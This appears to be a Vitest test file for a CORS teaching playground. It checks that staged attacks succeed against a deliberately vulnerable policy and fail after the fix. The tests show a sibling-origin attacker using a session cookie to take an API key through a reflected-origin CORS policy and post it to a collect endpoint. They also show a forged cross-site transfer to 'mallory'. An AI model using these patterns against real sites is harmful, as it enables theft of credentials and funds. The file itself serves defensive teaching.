import { describe, expect, it } from 'vitest';
import type { PlaygroundConfig } from '@cors-playground/protocol';
import { playgroundTesting, playgroundTestingRaw } from '../start/playgroundTesting.testkit.ts';
import { stageAsk, stageStart } from './stageAsk.testkit.ts';

const control = (config: PlaygroundConfig, path: string, body: unknown) =>
  fetch(`${config.appOrigin}/control/sandboxes/s1${path}`, {
    method: 'PUT',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });

const status = async (config: PlaygroundConfig) =>
  (await (await fetch(`${config.appOrigin}/control/sandboxes/s1/challenge`)).json()) as Record<
    string,
    unknown
  >;

describe('the challenge stage', () => {
  it('lets a sibling steal the key under the vulnerable policy, and sees the fix block it', async () => {
    const { config } = await playgroundTesting();
    const { victimApi, attackers } = config.stage;
    const at = await stageStart(config, 's1', 'reflect-sibling');

    const login = await stageAsk(victimApi, `${at}/login?session=cookie-lax`);
    expect(login.status).toBe(303);
    const cookie = String(login.headers['set-cookie']).split(';')[0] ?? '';
    expect(String(login.headers['set-cookie'])).toContain(`Path=${at}/; HttpOnly; SameSite=Lax`);

    const blog = attackers.sibling ?? '';
    const stolen = await stageAsk(victimApi, `${at}/api-key`, { headers: { cookie, origin: blog } });
    expect(stolen.status).toBe(200);
    expect(stolen.headers['access-control-allow-origin']).toBe(blog);
    expect(stolen.headers['cache-control']).toBe('no-store');
    const collect = (body: string) => stageAsk(blog, `${at}/collect`, { method: 'POST', body });
    expect((await collect(stolen.body)).status).toBe(204);
    expect(await status(config)).toMatchObject({ attempt: { state: 'exploited' } });

    const fixed = { origin: { mode: 'list', allow: [config.stage.victimApp] }, credentials: true };
    expect((await control(config, '/policy', fixed)).status).toBe(200);
    const refused = await stageAsk(victimApi, `${at}/api-key`, { headers: { cookie, origin: blog } });
    expect(refused.headers['access-control-allow-origin']).toBeUndefined();
    expect(await status(config)).toMatchObject({ attempt: { state: 'fixed' }, appWorks: true });
  });

  it('counts a transfer the app did not make, and serves the attack page with the template', async () => {
    const { config } = await playgroundTesting();
    const { victimApi, attackers } = config.stage;
    const at = await stageStart(config, 's1', 'not-csrf');
    await control(config, '/challenge/exploit', { exploit: 'report("</script><b>")' });
    const page = await stageAsk(attackers.sibling ?? '', `${at}/attack`);
    expect(page.body).toContain('report("<\\/script><b>")');
    expect((await stageAsk(attackers.crossSite ?? '', `${at}/attack?frame=null`)).body).toContain(
      'sandbox="allow-scripts"',
    );

    const login = await stageAsk(victimApi, `${at}/login?session=cookie-lax`);
    const cookie = String(login.headers['set-cookie']).split(';')[0] ?? '';
    const transfer = await stageAsk(victimApi, `${at}/transfer`, {
      method: 'POST',
      headers: {
        cookie,
        origin: attackers.sibling ?? '',
        'content-type': 'application/x-www-form-urlencoded',
      },
      body: 'to=mallory&amount=500',
    });
    expect(transfer.status).toBe(200);
    expect(await status(config)).toMatchObject({ attempt: { state: 'exploited' }, balance: 500 });
  });

  it('refuses an unknown challenge and an oversized exploit with the field path', async () => {
    const { config } = await playgroundTesting();
    const unknown = await control(config, '/challenge', { challengeId: 'nope' });
    expect(unknown.status).toBe(400);
    await control(config, '/challenge', { challengeId: 'null-origin' });
    const large = await control(config, '/challenge/exploit', { exploit: 'x'.repeat(20_000) });
    expect(large.status).toBe(400);
    expect(await large.json()).toMatchObject({ errors: [{ path: 'exploit' }] });
  });

  it('answers a request without a host name (HTTP/1.0 allows that) with 400, not an error', async () => {
    const { config } = await playgroundTesting();
    const port = new URL(config.stage.victimApi).port;
    for (const request of [
      'GET /s/x/attack HTTP/1.0\r\n\r\n',
      'POST /s/x/collect HTTP/1.0\r\nContent-Length: 1\r\n\r\nx',
      'GET /healthz HTTP/1.0\r\nHost:\r\n\r\n',
    ]) {
      const answer = await playgroundTestingRaw(`http://127.0.0.1:${port}`, request);
      expect(answer).toMatch(/^HTTP\/1\.1 400 /);
      expect(answer).toContain('A Host header is required.');
    }
  });
});
